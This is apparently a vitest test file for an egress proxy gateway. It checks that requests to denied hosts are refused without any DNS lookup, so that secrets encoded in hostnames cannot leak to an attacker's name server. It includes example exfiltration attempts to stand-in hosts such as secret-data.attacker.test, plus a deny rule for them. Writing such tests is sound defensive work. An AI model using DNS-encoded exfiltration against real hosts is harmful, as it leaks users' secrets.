// A denied destination never causes a DNS query: otherwise `CONNECT <secret>.attacker.test` leaks
// the secret to the attacker's name server even though the request is refused. The gateway's
// resolver is pointed at a logging DNS server, which must hear only names the policy allows.
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { capabilityGate, missingCommand } from '../support/capabilities.js';
import { startDnsLogServer, type DnsLogServer } from '../support/dns-log-server.js';
import { startGatewayFixture, type GatewayFixture } from '../support/gateway-fixture.js';
import { curlThroughProxy, type GatewayProcess } from '../support/gateway-process.js';
import { connectTunnel } from '../support/raw-tunnel.js';
import type { EchoResponse, Upstream } from '../support/upstream.js';

const skip = capabilityGate(missingCommand('curl'), missingCommand('openssl'));

const ALLOWED = 'allowed.example.test';
const ALLOWED_UNRESOLVABLE = 'missing.example.test';

// The logging DNS server answers 127.0.0.1, where the test upstreams listen: opened explicitly,
// since the gateway refuses private destinations a name resolves to by default.
const POLICY = `
version: 1
allowPrivateDestinations: [127.0.0.0/8]
rules:
  - id: allowed
    host: ${ALLOWED}
  - id: allowed-but-unresolvable
    host: ${ALLOWED_UNRESOLVABLE}
  - id: attacker-deny
    host: "*.attacker.test"
    action: deny
`;

describe.skipIf(skip !== null)('a denied destination causes no DNS query', () => {
  let fixture: GatewayFixture | undefined;
  let upstream: Upstream;
  let plainUpstream: Upstream;
  let dns: DnsLogServer;
  let gateway: GatewayProcess;

  beforeAll(async () => {
    dns = await startDnsLogServer({ [ALLOWED]: '127.0.0.1' });
    // No --resolve: every name the gateway looks up goes to the logging DNS server.
    fixture = await startGatewayFixture({
      policyYaml: POLICY,
      names: [ALLOWED],
      plainUpstream: true,
      resolve: false,
      args: ['--dns-upstream', dns.address],
    });
    ({ upstream, gateway } = fixture);
    plainUpstream = fixture.plainUpstream!;
  });

  afterAll(async () => {
    await fixture?.close();
    await dns?.close();
  });

  it('CONNECT secret-data.attacker.test → 403 and the DNS server heard nothing', async () => {
    const tunnel = await connectTunnel(gateway.proxyPort, 'secret-data.attacker.test:443');
    expect(tunnel.status).toBe(403);
    expect(dns.queries).toEqual([]);
  });

  it('CONNECT to names no rule mentions (fresh labels each time) → 403 and still no DNS query', async () => {
    for (let i = 0; i < 5; i++) {
      const name = `${randomBytes(12).toString('hex')}.exfil-${i}.test`;
      const tunnel = await connectTunnel(gateway.proxyPort, `${name}:443`);
      expect(tunnel.status).toBe(403);
    }
    const viaCurl = await curlThroughProxy(gateway, ['https://secret-data.attacker.test/']);
    expect(viaCurl.connectStatus).toBe(403);
    expect(dns.queries).toEqual([]);
  });

  it('absolute-form http to a denied name → 403 and no DNS query', async () => {
    const res = await curlThroughProxy(gateway, ['http://more-secret-data.attacker.test/x']);
    expect(res.status).toBe(403);
    const unlisted = await curlThroughProxy(gateway, [`http://${randomBytes(8).toString('hex')}.unlisted.test/`]);
    expect(unlisted.status).toBe(403);
    expect(dns.queries).toEqual([]);
  });

  it('an allowed host IS resolved through the DNS server (only that name) and served', async () => {
    dns.reset();
    const res = await curlThroughProxy(gateway, [upstream.url('/resolved')]);
    expect(res.stderr).toBe('');
    expect(res.status).toBe(200);
    expect(res.json<EchoResponse>()).toMatchObject({ path: '/resolved', servername: ALLOWED });
    expect(dns.queriedNames()).toEqual([ALLOWED]);
  });

  it('an allowed plain-http host is resolved the same way', async () => {
    dns.reset();
    const res = await curlThroughProxy(gateway, [plainUpstream.url('/resolved-plain')]);
    expect(res.status).toBe(200);
    expect(plainUpstream.received.map((r) => r.path)).toEqual(['/resolved-plain']);
    // A resolver may cache the earlier answer, but it must never ask for anything else.
    expect(dns.queriedNames().filter((name) => name !== ALLOWED)).toEqual([]);
  });

  it('an allowed host the DNS server does not know → 502 saying the name did not resolve', async () => {
    dns.reset();
    const res = await curlThroughProxy(gateway, [`https://${ALLOWED_UNRESOLVABLE}:${upstream.port}/x`]);
    expect(res.status).toBe(502);
    expect(res.json<{ error: string; reason: string }>()).toMatchObject({
      error: 'upstream',
      reason: expect.stringMatching(/dns|resolv|not found|nxdomain/i),
    });
    expect(dns.queriedNames()).toEqual([ALLOWED_UNRESOLVABLE]);
  });
});
